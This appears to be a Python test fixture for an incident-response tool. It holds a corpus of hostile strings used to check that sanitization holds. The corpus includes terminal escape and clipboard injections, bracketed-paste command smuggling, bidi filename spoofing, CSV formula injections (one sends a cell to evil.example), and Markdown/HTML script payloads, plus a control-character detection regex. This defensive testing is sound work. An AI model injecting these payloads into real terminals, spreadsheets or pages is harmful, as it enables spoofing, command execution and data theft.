"""A corpus of hostile text: what an attacker would put in a title, a note, an alert, a role or a playbook.

Every string carries a marker that must never reach a terminal, a clipboard or a file in a form the
destination would act on. The tests run each one through every input path and check every output.
"""

from __future__ import annotations

import re

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

# Name -> text. The names say which class of attack each one is.
HOSTILE: dict[str, str] = {
    # terminal state
    "osc0-title": f"{ESC}]0;PWNED-TITLE{BEL}Database down",
    "osc2-title-st": f"{ESC}]2;PWNED-TITLE2{ST}API slow",
    "osc52-clipboard": f"{ESC}]52;c;UFdORUQtQ0xJUA=={BEL}payments",
    "osc8-hyperlink": f"{ESC}]8;;http://evil.example/{ESC}\\click me{ESC}]8;;{ESC}\\",
    "clear-screen": f"{ESC}[2J{ESC}[HPWNED-CLEAR",
    "leave-alt-screen": f"{ESC}[?1049lPWNED-ALT",
    "cursor-move": f"{ESC}[10;10HPWNED-CURSOR{ESC}[6n",
    "sgr-colour": f"{ESC}[31;5mred blink{ESC}[0m",
    "dcs": f"{ESC}P$q\"p{ST}PWNED-DCS",
    "apc": f"{ESC}_PWNED-APC{ST}",
    "pm-sos": f"{ESC}^PWNED-PM{ST}{ESC}XPWNED-SOS{ST}",
    "c1-csi": "\x9b31mPWNED-C1\x9b0m",
    "c1-osc": "\x9d0;PWNED-C1-TITLE\x9c",
    "c1-dcs-st": "\x90PWNED-C1-DCS\x9c",
    "bell": f"ring{BEL}{BEL}{BEL}",
    "backspaces": "innocent\b\b\b\b\b\b\b\bPWNED-BS",
    "carriage-return": "all good\rPWNED-CR",
    "del": "del\x7fete",
    "nul": "nul\x00byte",
    "vertical-tab-ff": "vt\x0bff\x0c",
    "keypad-mode": f"{ESC}={ESC}>{ESC}cPWNED-RESET",
    # paste and shell
    "bracketed-paste-end": f"ok{ESC}[201~; touch /tmp/warroom-pwned-paste; echo ",
    "bracketed-paste-start": f"{ESC}[200~; touch /tmp/warroom-pwned-paste2",
    "newline-command": "line one\n; touch /tmp/warroom-pwned-nl",
    "crlf": "first\r\nsecond\r\n",
    # display tricks
    "bidi-override": "invoice\u202etxt.exe",
    "bidi-isolate": "\u2066admin\u2069 \u2067root\u2069",
    "bidi-embed": "\u202aleft\u202c \u202bright\u202c \u200fmark\u200e",
    "line-separator": "para\u2028graph\u2029two",
    "zwj-emoji": "on fire \U0001f9d1\u200d\U0001f692 family \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "cjk-wide": "数据库主节点宕机，支付服务全部失败，请立即处理",
    # spreadsheets
    "csv-formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "csv-plus": "+cmd|' /C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-tab": "\t=1+1",
    "csv-cr-row": 'note\r=HYPERLINK("http://evil.example","x"),forged',
    "csv-quote": 'a "quoted", text',
    # Markdown
    "md-image": "![pixel](http://evil.example/pixel.png)",
    "md-link-js": "[click](javascript:alert(1))",
    "md-emphasis": "**bold** _under_ *star* ~~strike~~",
    "md-code": "`rm -rf /` and ```fence```",
    "md-html": "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "md-heading": "# Heading\n## Another",
    "md-table": "a | b |\n|---|---|",
    "md-autolink": "see http://evil.example/x and www.evil.example and mail@evil.example <http://evil.example>",
    "md-entity": "&lt;script&gt; &#x3C;b&#x3E;",
    "md-ref": "[x]: http://evil.example/ref",
    # Textual markup
    "textual-markup": "[bold]x[/bold] [@click=app.quit]quit[/] [link=http://evil.example]l[/]",
}

# Every character a terminal acts on (C0, DEL, C1), the bidi controls, the Unicode line separators and
# lone surrogates: what no destination but a file of the log itself may get raw.
ACTIVE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

# What, once the text has been through the boundary, must be nowhere in a terminal's input.
MARKERS = ("PWNED-TITLE", "PWNED-CLIP", "PWNED-CLEAR", "PWNED-ALT", "PWNED-DCS", "PWNED-APC", "PWNED-C1")
